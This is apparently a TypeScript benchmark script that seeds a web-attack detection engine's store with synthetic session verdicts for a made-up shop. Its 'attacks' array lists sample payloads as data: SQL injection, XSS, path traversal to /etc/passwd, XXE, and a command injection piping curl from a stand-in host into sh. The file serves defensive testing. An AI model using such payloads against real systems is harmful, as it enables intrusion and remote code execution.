import { join } from "node:path";
import { type PayloadClass, payloadClasses } from "../../shared/payload.ts";
import { systemClock, toInstant } from "../engine/base/clock.ts";
import { sha256 } from "../engine/base/ids.ts";
import { createLogger } from "../engine/base/logging.ts";
import { enginePrincipal } from "../engine/base/principals.ts";
import { createRandom } from "../engine/detect/anomaly/random.ts";
import { featureSchema } from "../engine/detect/features/session-features.ts";
import { lotOf } from "../engine/detect/verdicts/session-lot.ts";
import type { FindingRecord, VerdictRecord } from "../engine/detect/verdicts/verdict-record.ts";
import { storeVerdicts } from "../engine/detect/verdicts/verdict-tables.ts";
import { evidenceId } from "../engine/evidence/evidence.ts";
import type { EvidenceAdded } from "../engine/evidence/evidence-tables.ts";
import { openDataDirectory } from "../engine/store/data-directory.ts";
import { fileKeySource } from "../engine/store/master-key.ts";
import { openStore } from "../engine/store/open-store.ts";
import { workerEntry } from "../entries.ts";

const batch = 2000;

/**
 * Fills a data directory with verdicts of one made-up piece of evidence: days at a busy shop.
 * @param share of the sessions that are flagged; each of those is an alert of its own
 * @param values that are kept of each session
 */
export async function seedVerdicts(home: string, count: number, share = 0.1, values = 0): Promise<void> {
  const clock = systemClock;
  const keySource = fileKeySource(join(home, "secrets", "master.key"), true);
  const directory = await openDataDirectory({ path: home, keySource, clock, host: "bench" });
  const store = await openStore({
    directory: home,
    nodeId: directory.nodeId,
    entries: { writer: workerEntry("writer"), reader: workerEntry("reader") },
    readers: 1,
    checkpointSeed: directory.checkpointSeed,
    log: createLogger("error"),
  });
  const content = sha256("made-up evidence");
  const id = evidenceId(content);
  const custody: EvidenceAdded["custody"] = {
    brought_by: "bench",
    brought_at: toInstant(clock.now()),
    channel: "command line",
    file_name: "busy-day.log",
    size_bytes: 0,
    sha256: content,
    checks: [],
    clock_offset_ms: null,
    recorded_by: null,
  };
  const payload: EvidenceAdded = { kind: "access_log", gzip: false, sha256: content, custody };
  await store.append(
    [{ entityType: "evidence", entityId: id, baseVersion: 0, kind: "evidence.added", payload, inverse: null }],
    enginePrincipal,
  );
  const none = { problems: [], problem_count: 0, clock_offset_ms: null, recorded_by: null, overlapping: 0 };
  const outcome = {
    ...none,
    extractor_version: "bench",
    requests: count,
    sessions: count,
    verdicts: { simulate: 0, tag: 0, benign: 0, digest: content },
  };
  await store.append(
    [
      {
        entityType: "evidence",
        entityId: id,
        baseVersion: 1,
        kind: "evidence.analysed",
        payload: outcome,
        inverse: null,
      },
    ],
    enginePrincipal,
  );
  const random = createRandom(3);
  const lotKey = Buffer.alloc(32, 3);
  const withLot = (verdict: VerdictRecord) => ({ ...verdict, lot: lotOf(lotKey, verdict) });
  for (let from = 0; from < count; from += batch) {
    const rows = Array.from({ length: Math.min(batch, count - from) }, (_, i) =>
      withLot(withValues(madeUpVerdict(id, from + i, random.next(), share), from + i, values)),
    );
    await store.write(storeVerdicts, rows);
  }
  await store.close();
  directory.close();
}

/** Attacks as they come in: each class with several ways to write it. */
const attacks: readonly { readonly class: PayloadClass; readonly write: (i: number) => string }[] = [
  { class: "sql_injection", write: (i) => `${i}' OR '1'='1` },
  { class: "sql_injection", write: (i) => `${i} UNION SELECT name, password FROM users--` },
  { class: "sql_injection", write: (i) => `'; WAITFOR DELAY '0:0:${i % 60}'--` },
  { class: "xss", write: (i) => `<script>alert(${i})</script>` },
  { class: "xss", write: (i) => `<img src=x onerror=fetch('//x.example/${i}')>` },
  { class: "xss", write: (i) => `"><svg onload=confirm(${i})>` },
  { class: "command_injection", write: (i) => `; curl http://x.example/${i} | sh` },
  { class: "command_injection", write: (i) => `$(sleep ${i % 30})` },
  { class: "path_traversal", write: (i) => `../../../../etc/passwd?${i}` },
  { class: "path_traversal", write: (i) => `..%2f..%2fvar%2flog%2f${i}.log` },
  { class: "xxe", write: (i) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hosts?${i}">]>` },
];

/** Ordinary values, some of them near to an attack, and the session's attack where it has one. */
function withValues(verdict: VerdictRecord, i: number, values: number): VerdictRecord {
  const findings = Array.from({ length: values }, (_, n): FindingRecord => {
    const doubt = ((i * 31 + n * 7) % 97) / 200;
    const isAttack = n === 0 && verdict.payload !== null;
    return {
      request: n,
      requestLine: verdict.requestLine,
      host: verdict.host,
      place: "query",
      name: "id",
      span: { start: 0, end: 0 },
      text: isAttack
        ? verdict.payload!
        : `article ${(i * 7919 + n) % 100_003} of the ${verdict.id.slice(0, 6 + n)} list`,
      canonical: "",
      decodings: [],
      class: isAttack ? verdict.class : "benign",
      confidence: 1 - doubt,
      probabilities: payloadClasses.map((name) =>
        name === (isAttack ? verdict.class : "benign") ? 1 - doubt : doubt / (payloadClasses.length - 1),
      ),
      family: null,
      set: [isAttack ? verdict.class : "benign"],
      spans: [],
      cut: false,
      outcome: "not_available",
      outcomeReason: "",
    };
  });
  return { ...verdict, findings };
}

function madeUpVerdict(evidence: string, i: number, chance: number, share: number): VerdictRecord {
  const verdict = chance < 0.3 * share ? "simulate" : chance < share ? "tag" : "benign";
  const flagged = verdict !== "benign";
  const attack = attacks[Math.floor(chance * 9973) % attacks.length]!;
  const startedAt = Date.UTC(2026, 0, 5) + i * 800;
  return {
    id: sha256(`verdict ${i}`).slice(0, 32),
    evidenceId: evidence,
    evidenceKind: "access_log",
    session: `s${i + 1}`,
    verdict,
    score: verdict === "benign" ? chance / 3 : (verdict === "simulate" ? 0.75 : 0.5) + (0.25 * chance) / share,
    payloadScore: flagged ? 0.95 : 0.01,
    behavioralScore: chance / 2,
    class: flagged ? attack.class : "benign",
    family: null,
    outcome: !flagged ? "not_available" : i % 40 === 0 ? "succeeded" : i % 3 === 0 ? "likely_failed" : "unclear",
    client: `198.51.${i % 256}.${(i * 7) % 256}`,
    host: "shop.example",
    requestLine: `GET /catalogue/${i % 5000}`,
    payload: flagged ? attack.write(i) : null,
    payloadPlace: flagged ? "query id" : null,
    requests: 1 + (i % 40),
    startedAt,
    endedAt: startedAt + 60_000,
    decidedAt: startedAt + 120_000,
    features: new Float64Array(featureSchema.length).fill(Number.NaN),
    inputs: {
      modelHash: "",
      anomalyHash: "",
      configHash: "",
      enrichmentHash: "",
      extractorVersion: "bench",
      payloadWeight: 0.6,
      tagThreshold: 0.5,
      simulateThreshold: 0.75,
      sessionGapMinutes: 30,
      maxEntryMb: 32,
    },
    findings: [],
    extent: null,
    worst: [],
    origin: null,
  };
}
